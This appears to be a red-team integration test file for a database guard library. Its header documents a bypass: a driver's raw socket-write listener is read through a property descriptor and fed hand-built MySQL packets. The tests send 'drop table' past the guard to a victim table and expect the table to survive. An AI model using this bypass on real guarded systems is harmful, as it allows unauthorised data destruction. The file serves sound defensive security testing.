/*
 * Red team rt50 (session 16, against aa796a4): the hook's connection view, lib/guard/raw-connection.ts.
 *
 * Finding 1 (HIGH: SQL past the guard, a table really dropped on MariaDB, from pool.afterCreate, from
 * pool.validate, and at run time through a reference kept past done()): a driver object's own function
 * read through Object.getOwnPropertyDescriptor(shield, key).value is not gated by OBJECT_PASSES /
 * objectPasses. mysqljs Connection.connect adds `this._protocol.on('data', (data) =>
 * connection._socket.write(data))`, a closure over the RAW connection. The hook reads
 * `Object.getOwnPropertyDescriptor(conn._protocol._events, 'data').value` and calls it with a
 * COM_QUERY packet: the raw socket gets `drop table …` that was never judged (COM_QUIT after it
 * keeps the driver from choking on the stray reply; ping() or the next guarded query takes the DROP's
 * reply, so the tests wait on that reply, no sleeps).
 * Root cause: lib/guard/raw-connection.ts guardRawConnection → shield(): the proxy's
 * `getOwnPropertyDescriptor` trap returns `field(key, Reflect.get(held, key, held), below)` for every
 * own key, so a function value goes through deep()/reach(), which shields a function as a callable
 * proxy (its `apply` trap runs the held function as it is); only the `get` trap applies the
 * OBJECT_PASSES / objectPasses gate (`conn._protocol._events.data(...)` IS refused). The same
 * ungated function values are handed out (seen, not shown here to send SQL) for other drivers' closures
 * and bound functions in own properties: pg's bound Client handlers in `conn.connection._events`
 * (_handleReadyForQuery …, which drive the raw client), mysql2's `packetParser.onPacket` (feeds packets
 * to the raw connection's command) and `_statements.set` (the raw prepared-statement cache),
 * pg-native's `native._events.*`; and the shield's
 * apply trap has no handedOver() check, so a kept function works after done() / after validate settled.
 * Fix for the class: one gate for every way a shield hands out a function value: in the
 * getOwnPropertyDescriptor trap (and inspect.custom's `fields`) give a function the same gated
 * method wrapper as `get` (or refuse descriptors of function-valued keys), and make deep()/reach() of a
 * function read from a field refuse calls (apply / construct) unless it is a listed method; also let
 * the shield's apply/construct traps and passed methods honour handedOver().
 *
 * Near-misses the guard handled (mysqljs, pool.afterCreate): `conn._protocol._events.data(buf)` (get
 * trap: refused), `conn._protocol.listeners('data')` / `rawListeners('data')` / `emit('data', …)`,
 * `conn._socket.write(buf)` (refused), `Object.getPrototypeOf(conn._socket).write.call(conn._socket, buf)`
 * (the read-only shield makes Writable's state writes throw), `Object.getOwnPropertyDescriptor(conn._socket,
 * 'write')` (a prototype method: no own descriptor). Not pursued for lack of time: bookkeeping-writes.ts
 * non-ASCII mention (no spelling found that PostgreSQL 15 / SQLite fold onto the ASCII knex_migrations:
 * both fold identifiers in ASCII only, and JS /i without `u` never matches non-ASCII to ASCII);
 * set-postgres.ts search_path (bare information_schema writable names are refused anyway).
 *
 * Run: DIALECTS=mysql npx mocha test/integration/guard-redteam-rt50.test.ts (3 tests, all fail on aa796a4).
 */
import { expect } from 'chai';
import { testDialects } from '../support/dialects';
import { mysqlSuperuserDatabase, tableExists, throughHook, throughValidate } from '../support/guard-attack';

const dialects = testDialects();

/** A MySQL command packet (sequence 0): what a client writes to start a command. */
function command(code: number, body = ''): Buffer {
  const payload = Buffer.concat([Buffer.from([code]), Buffer.from(body, 'utf8')]);
  const n = payload.length;
  return Buffer.concat([Buffer.from([n & 0xff, (n >> 8) & 0xff, (n >> 16) & 0xff, 0]), payload]);
}
/** COM_QUERY `sql`, then COM_QUIT: the server runs the statement, answers it, and closes the session (no stray result set for the driver to choke on). */
const queryThenQuit = (sql: string): Buffer => Buffer.concat([command(0x03, sql), command(0x01)]);

/** An own function-valued property of a shielded object, read through its descriptor (not through `get`). */
function ownFunction(holder: unknown, key: string): ((...args: unknown[]) => unknown) | undefined {
  const value = Object.getOwnPropertyDescriptor(holder as object, key)?.value as unknown;
  if (typeof value === 'function') return value as (...args: unknown[]) => unknown;
  if (Array.isArray(value) || (typeof value === 'object' && value !== null)) {
    const first = Object.getOwnPropertyDescriptor(value as object, '0')?.value as unknown;
    if (typeof first === 'function') return first as (...args: unknown[]) => unknown;
  }
  return undefined;
}

type MysqljsConn = { _protocol: { _events: unknown }; ping(cb: (e: unknown) => void): unknown; on(event: string, listener: (e: unknown) => void): unknown };

if (dialects.includes('mysql')) {
  describe('guard red team rt50, MariaDB as superuser (mysqljs): a driver listener read through a property descriptor', () => {
    const DATABASE = 'knexroles_redteam_rt50';
    const database = mysqlSuperuserDatabase(DATABASE);
    beforeEach(async () => {
      await database.admin.raw(`create table if not exists ${DATABASE}.rt50_victim (id int)`);
    });
    const drop = `drop table ${DATABASE}.rt50_victim`;

    // mysqljs Connection.connect: `this._protocol.on('data', (data) => connection._socket.write(data))`.
    const attack = (conn: MysqljsConn): Promise<string> =>
      new Promise((resolve) => {
        try {
          const write = ownFunction(conn._protocol._events, 'data');
          if (write === undefined) return resolve('no data listener');
          // The session then ends under the driver (PROTOCOL_CONNECTION_LOST): kept from being an uncaught error.
          conn.on('error', () => undefined);
          write(queryThenQuit(drop));
          // The server answers in order: the first reply after the write, which ping() takes as its own, is the DROP's.
          conn.ping((e) => resolve(e ? `wrote; then ${(e as Error).message}` : 'wrote'));
        } catch (error) {
          resolve(`refused: ${(error as Error).message}`);
        }
      });

    it('(mysql) pool.afterCreate: _protocol._events.data via getOwnPropertyDescriptor writes raw bytes: rt50_victim is still there', async () => {
      let outcome = '';
      await throughHook({ client: 'mysql', connection: database.connection }, async (conn: MysqljsConn) => void (outcome = await attack(conn)));
      expect(await tableExists.mysql(database.admin, DATABASE, 'rt50_victim'), `dropped (${outcome})`).to.equal(true);
    });

    it('(mysql) pool.afterCreate: the listener kept past done() writes at run time, after the guard read the session: rt50_victim is still there', async () => {
      let kept: ((...args: unknown[]) => unknown) | undefined;
      const outcome = await throughHook(
        { client: 'mysql', connection: database.connection },
        (conn: MysqljsConn) => {
          conn.on('error', () => undefined);
          kept = ownFunction(conn._protocol._events, 'data');
        },
        async (db) => {
          // A guarded query first: the session has been read and judged, the pool holds the connection.
          await db.raw('select 1');
          let wrote = 'no data listener';
          try {
            if (kept !== undefined) {
              kept(queryThenQuit(drop));
              wrote = 'wrote';
            }
          } catch (error) {
            wrote = `refused: ${(error as Error).message}`;
          }
          // The next reply on the connection is the DROP's, whatever the guarded query was.
          await db.raw('select 2').catch(() => undefined);
          return wrote;
        },
      );
      expect(await tableExists.mysql(database.admin, DATABASE, 'rt50_victim'), `dropped (${outcome})`).to.equal(true);
    });

    it('(mysql) pool.validate: the same through the validate view: rt50_victim is still there', async () => {
      let outcome = '';
      await throughValidate({ client: 'mysql', connection: database.connection }, async (conn: MysqljsConn) => {
        outcome = await attack(conn);
        return true;
      });
      expect(await tableExists.mysql(database.admin, DATABASE, 'rt50_victim'), `dropped (${outcome})`).to.equal(true);
    });
  });
}
